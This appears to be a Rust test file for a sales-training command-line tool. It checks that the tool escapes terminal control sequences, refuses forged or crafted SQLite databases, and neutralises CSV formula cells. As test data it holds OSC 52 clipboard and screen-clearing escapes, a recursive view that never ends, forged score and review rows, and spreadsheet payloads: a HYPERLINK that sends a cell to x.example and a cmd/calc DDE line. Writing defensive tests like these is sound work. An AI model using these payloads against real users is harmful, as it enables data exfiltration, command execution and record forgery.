//! Untrusted input: escape sequences from a playbook or a name never reach a terminal, and a
//! crafted or edited database handed in for `merge` is refused or has its claims checked.
//! The hostile playbooks are in tests/fixtures/hostile/terminal/, the attacks on a trainee's
//! database in tests/fixtures/db/*.sql (applied to a genuine database the test makes).
// Tests open raw SQLite connections to forge databases: opening through SQLite is safe.
#![allow(clippy::disallowed_methods)]

mod common;

use std::path::{Path, PathBuf};

use common::{fixtures, salesdojo, salesdojo_with};
use rusqlite::Connection;

/// The raw bytes a terminal acts on: C0 controls but tab, line feed and a carriage return
/// that ends a line, DEL, C1 controls, bidirectional and invisible format characters.
fn raw_controls(bytes: &str) -> Vec<String> {
    let chars: Vec<char> = bytes.chars().collect();
    chars
        .iter()
        .enumerate()
        .filter(|(i, c)| {
            salesdojo::untrusted::refused_char(**c).is_some()
                && !(**c == '\r' && chars.get(i + 1) == Some(&'\n'))
        })
        .map(|(i, c)| format!("U+{:04X} at char {i}", *c as u32))
        .collect()
}

fn assert_clean(what: &str, out: &str) {
    let found = raw_controls(out);
    assert!(
        found.is_empty(),
        "{what}: raw control characters {found:?} in:\n{out}"
    );
    // And the hostile text is there, shown visibly.
    assert!(
        out.contains("\\u{1b}") || out.contains("\\u001b"),
        "{what}: the escape is not shown:\n{out}"
    );
}

/// Each hostile playbook is refused by the validator with the character, its name and place.
#[test]
fn hostile_playbooks_are_refused_with_the_character_and_its_place() {
    let dir = fixtures().join("hostile/terminal");
    let cases = [
        (
            "osc52.yaml",
            "osc52.yaml:27:20: error: U+001B ESCAPE at 27:20 comes from this escape",
        ),
        (
            "csi-clear.yaml",
            "csi-clear.yaml:27:31: error: U+001B ESCAPE at 27:31 comes from this escape",
        ),
        (
            "bel.yaml",
            "bel.yaml:27:42: error: U+0007 BELL at 27:42 comes from this escape",
        ),
        (
            "bidi.yaml",
            "bidi.yaml:27:44: error: U+202E RIGHT-TO-LEFT OVERRIDE (bidirectional) at 27:44 is written in the file",
        ),
    ];
    for (file, pinned) in cases {
        let r = salesdojo(&dir, &["validate", "--format", "human", file]);
        assert_eq!(r.code, 1, "{file}: {}{}", r.stdout, r.stderr);
        assert!(r.stderr.contains(pinned), "{file}:\n{}", r.stderr);
        // The report quotes the line, and the quote holds no raw control character.
        let found = raw_controls(&r.stderr);
        assert!(found.is_empty(), "{file}: {found:?}\n{}", r.stderr);
        // As JSON: valid, and the same diagnostics.
        let r = salesdojo(&dir, &["validate", "--format", "json", file]);
        let v: serde_json::Value = serde_json::from_str(&r.stdout).expect("json");
        assert!(v["errors"].as_u64().unwrap_or(0) >= 1);
        assert!(raw_controls(&r.stdout).is_empty());
    }
    // Not loaded for practice either: `list` with that folder leaves them out, and says why
    // without raw bytes.
    let r = salesdojo(&dir, &["--playbooks", ".", "list"]);
    assert!(!r.stdout.contains("osc52"), "{}", r.stdout);
    assert!(raw_controls(&r.stdout).is_empty() && raw_controls(&r.stderr).is_empty());
}

/// A database with hostile bytes written straight into it (by hand, or by an older version):
/// trainee, team, reply and comment. Returns its path and one attempt id.
fn hostile_database(dir: &Path) -> (PathBuf, String) {
    let db = dir.join("hostile.db");
    let r = salesdojo(
        dir,
        &[
            "--db",
            db.to_str().expect("utf-8"),
            "demo-data",
            "--trainees",
            "3",
            "--days",
            "5",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let c = Connection::open(&db).expect("open");
    let evil = "Eve\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}";
    c.execute("UPDATE trainees SET name = ?1", [evil])
        .expect("names");
    c.execute("UPDATE teams SET name = name || ?1", [evil])
        .expect("teams");
    let id: String = c
        .query_row(
            "SELECT id FROM attempts WHERE status = 'completed' AND mode = 'practice' LIMIT 1",
            [],
            |r| r.get(0),
        )
        .expect("an attempt");
    c.execute(
        "UPDATE replies SET answer = ?1 WHERE attempt_id = ?2 AND answer_kind = 'text'",
        [&format!("您好\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}{evil}"), &id],
    )
    .expect("answer");
    c.execute(
        "INSERT INTO reviews (id, attempt_id, reviewer, at, comment) VALUES ('r1', ?1, ?2, '2026-01-01T00:00:00Z', ?2)",
        [&id, evil],
    )
    .expect("review");
    (db, id)
}

#[test]
fn text_from_a_database_reaches_no_terminal_raw() {
    let d = tempfile::tempdir().expect("temp");
    let (db, id) = hostile_database(d.path());
    let dbs = db.to_str().expect("utf-8");
    for args in [
        vec!["attempt", &id],
        vec!["report"],
        vec!["export", "--format", "csv"],
        vec!["rescore", "--all"],
    ] {
        let mut all = vec!["--db", dbs];
        all.extend(args.iter().copied());
        let r = salesdojo(d.path(), &all);
        assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
        assert_clean(&format!("{args:?}"), &r.stdout);
    }
    for args in [
        vec!["attempt", &id, "--format", "json"],
        vec!["report", "--format", "json"],
        vec!["export", "--format", "xapi", "--ndjson"],
        vec!["rescore", "--format", "json"],
    ] {
        let mut all = vec!["--db", dbs];
        all.extend(args.iter().copied());
        let r = salesdojo(d.path(), &all);
        assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
        let found = raw_controls(&r.stdout);
        assert!(found.is_empty(), "{args:?}: {found:?}");
        // Still JSON, and the same text once parsed.
        for doc in if args.contains(&"--ndjson") {
            r.stdout.lines().map(str::to_owned).collect::<Vec<_>>()
        } else {
            vec![r.stdout.clone()]
        } {
            serde_json::from_str::<serde_json::Value>(&doc).expect("valid JSON");
        }
        if args[0] == "attempt" {
            let v: serde_json::Value = serde_json::from_str(&r.stdout).expect("json");
            assert!(
                v["attempt"]["trainee"]
                    .as_str()
                    .is_some_and(|n| n.starts_with("Eve\u{1b}]0;pwned\u{7}")),
                "the JSON keeps the stored text exactly: {}",
                v["attempt"]["trainee"]
            );
        }
    }
    // An export file's CSV cells show the characters instead of holding them.
    let out = d.path().join("x.csv");
    let r = salesdojo(
        d.path(),
        &[
            "--db",
            dbs,
            "export",
            "--format",
            "csv",
            "--out",
            out.to_str().expect("utf-8"),
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_clean("csv file", &std::fs::read_to_string(&out).expect("csv"));
}

/// Resuming prints the earlier turns, replies included: escaped.
#[test]
fn resuming_an_attempt_with_hostile_replies_prints_them_escaped() {
    let d = tempfile::tempdir().expect("temp");
    let db = d.path().join("p.db");
    let dbs = db.to_str().expect("utf-8");
    // Two replies, then the input ends: the attempt stays unfinished.
    let r = common::salesdojo_stdin(
        d.path(),
        &[
            "--db",
            dbs,
            "practice",
            "jewelry",
            "--scenario",
            "browsing-to-tryon",
            "--trainee",
            "Eve",
        ],
        "2\n您眼光真好，这款的设计灵感来自海浪。\n",
    );
    assert!(!r.stdout.is_empty(), "{}", r.stderr);
    let c = Connection::open(&db).expect("open");
    let n = c
        .execute(
            "UPDATE replies SET answer = ?1 WHERE answer_kind = 'text'",
            ["好的\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{1b}[2J"],
        )
        .expect("forge");
    assert!(n >= 1);
    drop(c);
    let r = common::salesdojo_stdin(
        d.path(),
        &[
            "--db",
            dbs,
            "practice",
            "jewelry",
            "--scenario",
            "browsing-to-tryon",
            "--trainee",
            "Eve",
        ],
        "y\nq\n",
    );
    assert_clean("practice resume", &r.stdout);
    assert!(r.stdout.contains("好的\\u{1b}]52;c;"), "{}", r.stdout);
}

/// Names typed at the door are refused, with the reason.
#[test]
fn hostile_names_are_refused_where_they_are_typed() {
    let d = tempfile::tempdir().expect("temp");
    let db = d.path().join("p.db");
    let r = salesdojo_with(
        d.path(),
        &[
            "--db",
            db.to_str().expect("utf-8"),
            "practice",
            "jewelry",
            "--trainee",
            "Eve\u{1b}]0;pwned\u{7}",
        ],
        &[],
    );
    assert_eq!(r.code, 2);
    assert!(
        r.stderr
            .contains("holds U+001B ESCAPE at character 4: names may not hold control"),
        "{}",
        r.stderr
    );
    assert!(raw_controls(&r.stderr).is_empty(), "{}", r.stderr);
}

// ---- merge: the other file is untrusted ----

/// A genuine trainee database: generated practice, scored by the engine.
fn genuine(dir: &Path) -> PathBuf {
    demo_db(dir, "trainee", "2", "20", "5")
}

/// A generated progress database at `dir/NAME.db`: `trainees` trainees practising for `days`
/// days, from the demo seed `seed` (its own trainees and ids).
fn demo_db(dir: &Path, name: &str, trainees: &str, days: &str, seed: &str) -> PathBuf {
    let db = dir.join(format!("{name}.db"));
    let r = salesdojo(
        dir,
        &[
            "--db",
            db.to_str().expect("utf-8"),
            "demo-data",
            "--trainees",
            trainees,
            "--days",
            days,
            "--seed",
            seed,
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    db
}

/// The genuine database with the attack `tests/fixtures/db/NAME.sql` applied.
fn attacked(dir: &Path, base: &Path, name: &str) -> PathBuf {
    let sql = std::fs::read_to_string(fixtures().join(format!("db/{name}.sql"))).expect("fixture");
    tampered(dir, base, name, &sql)
}

/// `SELECT COUNT(*) …` on a database.
fn count(db: &Path, sql: &str) -> i64 {
    Connection::open(db)
        .expect("open")
        .query_row(sql, [], |r| r.get(0))
        .expect("count")
}

fn merge(dir: &Path, manager: &Path, other: &Path) -> common::Run {
    salesdojo(
        dir,
        &[
            "--db",
            manager.to_str().expect("utf-8"),
            "merge",
            other.to_str().expect("utf-8"),
        ],
    )
}

#[test]
fn a_genuine_database_merges_and_every_imported_score_is_verified() {
    let d = tempfile::tempdir().expect("temp");
    let base = genuine(d.path());
    let manager = d.path().join("manager.db");
    let r = merge(d.path(), &manager, &base);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains(" verified, 0 flagged"), "{}", r.stdout);
    let c = Connection::open(&manager).expect("open");
    let (pending, mismatched): (i64, i64) = c
        .query_row(
            "SELECT SUM(status = 'pending'), SUM(status = 'mismatch') FROM verifications",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .expect("count");
    assert_eq!((pending, mismatched), (0, 0));
}

#[test]
fn a_view_or_a_trigger_in_the_other_file_is_refused_before_anything_is_read() {
    let d = tempfile::tempdir().expect("temp");
    let base = genuine(d.path());
    let manager = d.path().join("manager.db");
    for (attack, why) in [
        (
            "view_instead_of_table",
            "'trainees' is a view where salesdojo has a table",
        ),
        (
            "trigger",
            "it holds a trigger 'grow' that salesdojo never creates",
        ),
    ] {
        let other = attacked(d.path(), &base, attack);
        // common::salesdojo fails the test if the command runs past its hang guard.
        let r = merge(d.path(), &manager, &other);
        assert_eq!(r.code, 2, "{attack}: {}{}", r.stdout, r.stderr);
        assert!(
            r.stderr
                .contains(&format!("was refused: {why}; nothing was merged")),
            "{attack}: {}",
            r.stderr
        );
    }
    assert_eq!(
        count(&manager, "SELECT COUNT(*) FROM attempts"),
        0,
        "nothing was merged"
    );
}

#[test]
fn a_forged_total_is_flagged_and_a_forged_certification_is_not_imported() {
    let d = tempfile::tempdir().expect("temp");
    let base = genuine(d.path());
    let manager = d.path().join("manager.db");
    let other = attacked(d.path(), &base, "forged_total");
    let r = merge(d.path(), &manager, &other);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let forged: i64 = Connection::open(&other)
        .expect("open")
        .query_row(
            "SELECT COUNT(*) FROM attempts WHERE total = 100 AND status = 'completed'",
            [],
            |r| r.get(0),
        )
        .expect("count");
    assert!(forged > 0);
    assert!(
        r.stdout.contains(&format!("{forged} flagged"))
            || r.stdout.contains(" flagged (stored total differs)"),
        "{}",
        r.stdout
    );
    let c = Connection::open(&manager).expect("open");
    let flagged: i64 = c
        .query_row(
            "SELECT COUNT(*) FROM verifications WHERE status = 'mismatch'",
            [],
            |r| r.get(0),
        )
        .expect("count");
    assert!(flagged > 0 && flagged <= forged, "{flagged} of {forged}");
    let id: String = c
        .query_row(
            "SELECT attempt_id FROM verifications WHERE status = 'mismatch' LIMIT 1",
            [],
            |r| r.get(0),
        )
        .expect("one");
    let r = salesdojo(
        d.path(),
        &["--db", manager.to_str().expect("utf-8"), "attempt", &id],
    );
    assert!(
        r.stdout.contains("FLAGGED: its replies give "),
        "{}",
        r.stdout
    );

    let other = attacked(d.path(), &base, "forged_certification");
    let manager = d.path().join("manager2.db");
    let r = merge(d.path(), &manager, &other);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout
            .contains("certifications: 1 claimed by the file (never copied), "),
        "{}",
        r.stdout
    );
    assert_eq!(
        count(
            &manager,
            "SELECT COUNT(*) FROM certifications WHERE playbook_id = 'jewelry'"
        ),
        0,
        "the forged certification was imported"
    );
}

#[test]
fn hostile_names_in_a_merged_file_are_cleaned_and_said() {
    let d = tempfile::tempdir().expect("temp");
    let base = genuine(d.path());
    let manager = d.path().join("manager.db");
    let other = attacked(d.path(), &base, "hostile_names");
    let r = merge(d.path(), &manager, &other);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout
            .contains("names held control or format characters and were stored without them"),
        "{}",
        r.stdout
    );
    let c = Connection::open(&manager).expect("open");
    let names: Vec<String> = c
        .prepare("SELECT name FROM trainees UNION ALL SELECT name FROM teams")
        .expect("prepare")
        .query_map([], |r| r.get(0))
        .expect("query")
        .collect::<Result<_, _>>()
        .expect("names");
    assert!(!names.is_empty());
    for n in &names {
        assert!(raw_controls(n).is_empty(), "{n:?}");
    }
    assert!(names.iter().any(|n| n.contains("Eve]0;pwned")), "{names:?}");
}

// ---- second round: a merged file is its trainee's claim, nothing more ----

/// A genuine trainee database at `dir/NAME.db`, from its own demo seed (its own trainees).
fn genuine_at(dir: &Path, name: &str, seed: &str) -> PathBuf {
    demo_db(dir, name, "1", "10", seed)
}

/// A copy of `base` at `dir/NAME.db` with `sql` applied (as a trainee editing their own file).
fn tampered(dir: &Path, base: &Path, name: &str, sql: &str) -> PathBuf {
    let out = dir.join(format!("{name}.db"));
    Connection::open(base)
        .expect("open")
        .execute("VACUUM INTO ?1", [out.to_str().expect("utf-8")])
        .expect("copy");
    Connection::open(&out)
        .expect("open")
        .execute_batch(&format!("PRAGMA foreign_keys = OFF; {sql}"))
        .expect("the edit applies");
    out
}

/// One value of a query on a database.
fn value<T: rusqlite::types::FromSql>(db: &Path, sql: &str) -> T {
    Connection::open(db)
        .expect("open")
        .query_row(sql, [], |r| r.get(0))
        .expect("value")
}

/// What a manager's database holds, to show that a refused merge wrote nothing.
fn holdings(db: &Path) -> (i64, i64, i64, i64, f64) {
    Connection::open(db)
        .expect("open")
        .query_row(
            "SELECT (SELECT COUNT(*) FROM trainees), (SELECT COUNT(*) FROM attempts),
                    (SELECT COUNT(*) FROM replies), (SELECT COUNT(*) FROM reviews),
                    (SELECT COALESCE(SUM(total), 0) FROM attempts)",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?)),
        )
        .expect("holdings")
}

/// A manager's database holding one trainee's verified practice (the victim), and another
/// trainee's genuine file (the attacker's, before any edit).
fn manager_and_attacker(dir: &Path) -> (PathBuf, PathBuf, String, String) {
    let victim = genuine_at(dir, "victim", "5");
    let attacker = genuine_at(dir, "attacker", "9");
    let manager = dir.join("manager.db");
    let r = merge(dir, &manager, &victim);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let victim_attempt: String = value(
        &manager,
        "SELECT id FROM attempts WHERE status = 'completed' AND mode = 'practice' ORDER BY total LIMIT 1",
    );
    let victim_trainee: String = value(&victim, "SELECT id FROM trainees LIMIT 1");
    let theirs: String = value(&attacker, "SELECT id FROM trainees LIMIT 1");
    assert_ne!(victim_trainee, theirs, "two seeds, two trainees");
    (manager, attacker, victim_attempt, victim_trainee)
}

/// A trainee's file holding reviews — a manager's override on another trainee's attempt and
/// overrides of every criterion of their own — merges without them: the file is their claim,
/// a review is a manager's word. (On the code before this, both were merged: the other
/// trainee's total moved, and the trainee's own went to 100.)
#[test]
fn reviews_in_a_merged_file_are_left_out_and_said() {
    let d = tempfile::tempdir().expect("temp");
    let (manager, attacker, victim_attempt, _) = manager_and_attacker(d.path());
    let before = holdings(&manager);
    let victim_total: f64 = value(
        &manager,
        &format!("SELECT total FROM attempts WHERE id = '{victim_attempt}'"),
    );
    let forged = tampered(
        d.path(),
        &attacker,
        "forged_reviews",
        &format!(
            "INSERT INTO reviews (id, attempt_id, reviewer, at, comment, criterion_id, override_points)
                 SELECT DISTINCT 'r-victim-' || criterion_id, '{victim_attempt}', '张经理', '2026-11-01T00:00:00Z', 'ok', criterion_id, 100
                 FROM attempt_criteria LIMIT 3;
             INSERT INTO reviews (id, attempt_id, reviewer, at, comment, criterion_id, override_points)
                 SELECT 'r-own-' || attempt_id || criterion_id, attempt_id, '张经理', '2026-11-01T00:00:00Z', NULL, criterion_id, 100
                 FROM attempt_criteria;"
        ),
    );
    let in_file: i64 = value(&forged, "SELECT COUNT(*) FROM reviews");
    assert!(in_file > 3);
    let r = merge(d.path(), &manager, &forged);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stdout.contains(&format!("{in_file} reviews, ")) && r.stdout.contains("left out"),
        "{}",
        r.stdout
    );
    assert_eq!(
        holdings(&manager).3,
        before.3,
        "no review came in from the file"
    );
    let after: f64 = value(
        &manager,
        &format!("SELECT total FROM attempts WHERE id = '{victim_attempt}'"),
    );
    assert_eq!(
        after, victim_total,
        "the other trainee's total did not move"
    );
    let reviewed: i64 = value(
        &manager,
        "SELECT COUNT(*) FROM attempt_criteria WHERE overridden IS NOT NULL",
    );
    assert_eq!(reviewed, 0);
}

/// Every way a file can reach into someone else's practice is refused whole, naming the first
/// offending row, with the manager's database untouched and nothing written beside the file.
#[test]
fn a_merged_file_cannot_touch_another_trainees_attempt_or_identity() {
    let d = tempfile::tempdir().expect("temp");
    let (manager, attacker, victim_attempt, victim_trainee) = manager_and_attacker(d.path());
    let victim_name: String = value(
        &manager,
        &format!("SELECT name FROM trainees WHERE id = '{victim_trainee}'"),
    );
    let mine: String = value(&attacker, "SELECT id FROM trainees LIMIT 1");
    let own_attempt: String = value(
        &attacker,
        "SELECT id FROM attempts WHERE status = 'completed' LIMIT 1",
    );
    let cases: Vec<(&str, String, String)> = vec![
        (
            // Replies re-pointed to the victim's attempt (4 → 8 replies before).
            "replies_into_another_attempt",
            format!(
                "UPDATE replies SET attempt_id = '{victim_attempt}' WHERE attempt_id = '{own_attempt}';"
            ),
            format!("belongs to attempt '{victim_attempt}', which the file does not bring in"),
        ),
        (
            // The victim's attempt id, claimed for the attacker.
            "someone_elses_attempt_id",
            format!("UPDATE attempts SET id = '{victim_attempt}' WHERE id = '{own_attempt}';
                     UPDATE replies SET attempt_id = '{victim_attempt}' WHERE attempt_id = '{own_attempt}';
                     UPDATE attempt_criteria SET attempt_id = '{victim_attempt}' WHERE attempt_id = '{own_attempt}';"),
            format!("attempt '{victim_attempt}' is already here, for trainee '{victim_trainee}'"),
        ),
        (
            // The victim's trainee id under the attacker's name: every attempt filed under them.
            "someone_elses_trainee_id",
            format!("UPDATE trainees SET id = '{victim_trainee}' WHERE id = '{mine}';
                     UPDATE attempts SET trainee_id = '{victim_trainee}' WHERE trainee_id = '{mine}';
                     UPDATE trainees SET name = 'Mallory';"),
            format!("trainee '{victim_trainee}' is already here as '{victim_name}'; the file gives that id to 'Mallory'"),
        ),
        (
            "reply_over_the_limit",
            format!("UPDATE replies SET answer = printf('%.10001c', 'x') WHERE attempt_id = '{own_attempt}';"),
            "characters; the limit is 10000".to_owned(),
        ),
        (
            "score_as_text",
            format!("UPDATE replies SET score = 'full marks' WHERE attempt_id = '{own_attempt}';"),
            "holds a value of the wrong type or out of range".to_owned(),
        ),
        (
            "total_out_of_range",
            format!("UPDATE attempts SET total = 250 WHERE id = '{own_attempt}';"),
            format!("attempt '{own_attempt}': a column holds a value of the wrong type or out of range"),
        ),
    ];
    let before = holdings(&manager);
    for (name, sql, said) in &cases {
        let other = tampered(d.path(), &attacker, name, sql);
        let r = merge(d.path(), &manager, &other);
        assert_eq!(r.code, 2, "{name}: {}{}", r.stdout, r.stderr);
        assert!(
            r.stderr.contains("was refused: ")
                && r.stderr.contains(said.as_str())
                && r.stderr.contains("nothing was merged"),
            "{name}: {}",
            r.stderr
        );
        assert_eq!(
            holdings(&manager),
            before,
            "{name}: the manager's database changed"
        );
        for suffix in ["-wal", "-shm"] {
            let beside = PathBuf::from(format!("{}{suffix}", other.display()));
            assert!(!beside.exists(), "{name}: {} was created", beside.display());
        }
    }

    // A reply added to an attempt already finished here (the same trainee's own file, merged
    // once, then edited): refused too.
    let r = merge(d.path(), &manager, &attacker);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let before = holdings(&manager);
    let appended = tampered(
        d.path(),
        &attacker,
        "appended_later",
        &format!(
            "INSERT INTO replies (id, attempt_id, seq, turn_id, stage_id, answer_kind, answer, seconds, score, result_id, script_error, created_at)
                 SELECT 'appended-later', attempt_id, 99, turn_id, stage_id, answer_kind, '#99 appended later', 1, 100, result_id, NULL, created_at
                 FROM replies WHERE attempt_id = '{own_attempt}' LIMIT 1;"
        ),
    );
    let r = merge(d.path(), &manager, &appended);
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    assert!(
        r.stderr.contains(&format!(
            "reply 'appended-later' would be added to attempt '{own_attempt}', which is finished here"
        )),
        "{}",
        r.stderr
    );
    assert_eq!(holdings(&manager), before);
}

/// The schema check `merge` makes runs on every database salesdojo opens: a view over an
/// endless query where a table belongs is refused at once by every command (on the code
/// before this, `report`, `export`, `attempt` and `rescore` ran until killed).
#[test]
fn every_command_refuses_a_database_with_a_view_where_a_table_belongs() {
    let d = tempfile::tempdir().expect("temp");
    let base = genuine_at(d.path(), "base", "5");
    let crafted = tampered(
        d.path(),
        &base,
        "crafted",
        "DROP TABLE attempts;
         CREATE VIEW attempts AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)
             SELECT 'x' || i AS id, 't' AS trainee_id, 'p' AS playbook_id, 1 AS playbook_version, 'h' AS playbook_hash,
                    's' AS scenario_id, 'practice' AS mode, '2026' AS started_at, NULL AS ended_at, 1.0 AS total,
                    1 AS passed, 'completed' AS status, NULL AS ending, NULL AS scored_total, NULL AS scored_passed,
                    NULL AS pass_mark, NULL AS gated, 1 AS counted FROM n;",
    );
    let db = crafted.to_str().expect("utf-8");
    for args in [
        vec!["--db", db, "report"],
        vec!["--db", db, "export", "--format", "csv"],
        vec!["--db", db, "attempt", "x1"],
        vec!["--db", db, "rescore"],
        vec!["--db", db, "backup", "copy.db"],
    ] {
        let started = std::time::Instant::now();
        let r = salesdojo(d.path(), &args);
        assert_eq!(r.code, 2, "{args:?}: {}{}", r.stdout, r.stderr);
        assert!(
            r.stderr
                .contains("'attempts' is a view where salesdojo has a table"),
            "{args:?}: {}",
            r.stderr
        );
        assert!(started.elapsed() < std::time::Duration::from_secs(10));
    }
    // Another program's SQLite file is not taken over as a progress log either.
    let foreign = d.path().join("foreign.db");
    Connection::open(&foreign)
        .expect("open")
        .execute_batch("CREATE TABLE invoices (id INTEGER PRIMARY KEY, amount REAL);")
        .expect("foreign");
    let r = salesdojo(d.path(), &["--db", "foreign.db", "report"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("it is another program's SQLite database"),
        "{}",
        r.stderr
    );
    let tables: i64 = value(&foreign, "SELECT COUNT(*) FROM sqlite_schema");
    assert_eq!(tables, 1, "the foreign file was left as it was");
}

// ---- backup replaces only a backup it made ----

#[test]
fn backup_replaces_only_a_backup_it_made() {
    let d = tempfile::tempdir().expect("temp");
    let mine = genuine_at(d.path(), "mine", "5");
    let theirs = genuine_at(d.path(), "theirs", "9");
    let theirs_before = holdings(&theirs);
    let backup = |dest: &str| salesdojo(d.path(), &["--db", "mine.db", "backup", dest]);

    // Another trainee's live progress database is refused, untouched.
    let r = backup("theirs.db");
    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
    assert!(
        r.stderr.contains("not a backup this command made"),
        "{}",
        r.stderr
    );
    assert_eq!(holdings(&theirs), theirs_before);

    // A backup it made is replaced, again and again.
    for _ in 0..2 {
        let r = backup("copy.db");
        assert_eq!(r.code, 0, "{}", r.stderr);
    }
    assert_eq!(holdings(&d.path().join("copy.db")), holdings(&mine));

    // A symbolic link at DEST is neither followed nor replaced.
    #[cfg(unix)]
    {
        let link = d.path().join("link.db");
        std::os::unix::fs::symlink(d.path().join("copy.db"), &link).expect("symlink");
        let r = backup("link.db");
        assert_eq!(r.code, 2, "{}", r.stderr);
        assert!(r.stderr.contains("symbolic link"), "{}", r.stderr);
        assert!(
            link.symlink_metadata()
                .expect("still there")
                .file_type()
                .is_symlink()
        );
    }

    // A backup merges like any trainee file.
    let r = merge(
        d.path(),
        &d.path().join("manager.db"),
        &d.path().join("copy.db"),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);

    // Opened as a progress log, a backup becomes one: a later backup does not replace it.
    let r = salesdojo(d.path(), &["--db", "copy.db", "report"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let r = backup("copy.db");
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("not a backup this command made"),
        "{}",
        r.stderr
    );
}

// ---- the playbooks folder is read as regular files only ----

/// A FIFO in the playbooks folder hung every content command; a symbolic link named `x.yaml`
/// to a file outside printed that file's lines in `validate`'s diagnostics. Both are now
/// skipped with a warning naming them.
#[cfg(unix)]
#[test]
fn a_fifo_or_a_link_out_of_the_playbooks_folder_is_skipped_with_a_warning() {
    let d = tempfile::tempdir().expect("temp");
    let dir = d.path().join("content/playbooks");
    std::fs::create_dir_all(&dir).expect("folder");
    std::fs::copy(
        common::repo().join("playbooks/04_objection_handling.yaml"),
        dir.join("objections.yaml"),
    )
    .expect("a playbook");
    let secret = d.path().join("secret.txt");
    std::fs::write(&secret, "root:SECRET-HASH:19000:0:99999:7:::\n").expect("secret");
    std::os::unix::fs::symlink(&secret, dir.join("x.yaml")).expect("link out");
    let fifo = dir.join("fifo.yaml");
    let c = std::ffi::CString::new(fifo.to_str().expect("utf-8")).expect("path");
    // SAFETY: a valid NUL-terminated path; mkfifo only creates a file system node.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0, "mkfifo");
    let folder = dir.to_str().expect("utf-8");
    for args in [
        vec!["validate", folder],
        vec!["--playbooks", folder, "list"],
        vec!["test", folder],
    ] {
        // common::salesdojo fails the test if the command does not finish in time.
        let r = salesdojo(d.path(), &args);
        let all = format!("{}{}", r.stdout, r.stderr);
        assert!(!all.contains("SECRET"), "{args:?}: {all}");
        if args[0] == "validate" {
            assert!(
                all.contains("fifo.yaml") && all.contains("not a regular file"),
                "{args:?}: {all}"
            );
            assert!(
                all.contains("x.yaml") && all.contains("outside the playbooks folder"),
                "{args:?}: {all}"
            );
            assert_eq!(r.code, 0, "{args:?}: warnings only: {all}");
        }
    }
}

// ---- CSV: no cell runs as a formula ----

#[test]
fn csv_cells_that_start_a_formula_are_written_as_text() {
    let d = tempfile::tempdir().expect("temp");
    let db = genuine_at(d.path(), "p", "5");
    Connection::open(&db)
        .expect("open")
        .execute_batch(
            "UPDATE trainees SET name = '=HYPERLINK(\"http://x.example/?\"&A1,\"open\")';
             UPDATE teams SET name = '+cmd|''/c calc''!A0';",
        )
        .expect("names");
    for args in [
        vec!["--db", "p.db", "report", "--format", "csv"],
        vec!["--db", "p.db", "export", "--format", "csv"],
    ] {
        let r = salesdojo(d.path(), &args);
        assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
        let mut rows = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(r.stdout.trim_start_matches('\u{feff}').as_bytes());
        let mut cells = 0;
        for row in rows.records() {
            for cell in row.expect("csv").iter() {
                cells += 1;
                let number =
                    cell.parse::<f64>().is_ok() && !cell.contains(['+', 'e', 'E', 'i', 'n', 'N']);
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{args:?}: a formula cell: {cell:?}"
                );
            }
        }
        assert!(cells > 20, "{args:?}: {}", r.stdout);
        assert!(r.stdout.contains("'=HYPERLINK("), "{args:?}: {}", r.stdout);
    }
}

// ---- the command line's own messages ----

/// clap's usage error echoes the argument it did not expect: an escape sequence in a file
/// name (OSC 52 writes the clipboard) is shown, not sent.
#[test]
fn a_usage_error_shows_an_escape_sequence_instead_of_sending_it() {
    let d = tempfile::tempdir().expect("temp");
    // CLICOLOR_FORCE: clap writes as it does to a terminal (styled, the value as typed).
    let r = salesdojo_with(
        d.path(),
        &["\u{1b}]52;c;cHduZWQ=\u{7}"],
        &[("CLICOLOR_FORCE", "1")],
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(raw_controls(&r.stderr).is_empty(), "{:?}", r.stderr);
    assert!(r.stderr.contains("unrecognized subcommand"), "{}", r.stderr);
    let help = salesdojo(d.path(), &["--help"]);
    assert_eq!(help.code, 0);
    assert!(help.stdout.contains("Usage"), "{}", help.stdout);
}
